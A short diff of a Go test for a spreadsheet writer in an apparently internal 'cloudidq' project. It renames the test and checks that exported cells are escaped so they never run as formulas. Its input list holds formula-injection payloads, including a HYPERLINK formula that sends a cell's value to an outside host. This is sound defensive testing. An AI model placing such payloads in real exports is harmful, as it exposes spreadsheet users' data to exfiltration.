@@ -15,9 +15,9 @@ import (
 	"cloudidq/store"
 )
 
-// No spreadsheet may run a cell as a formula: producers choose references, and users choose
+// No spreadsheet may run a cell as a formula, because producers choose references, and users choose
 // some of the data. cloudidq's own numbers stay numbers, including negative ones.
-func TestWriter_CellsAreNoFormulas(t *testing.T) {
+func TestWriter_EscapesFormulas(t *testing.T) {
 	at := store.At(time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC))
 	formulas := []string{
 		`=HYPERLINK("http://example.com/?x="&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1",
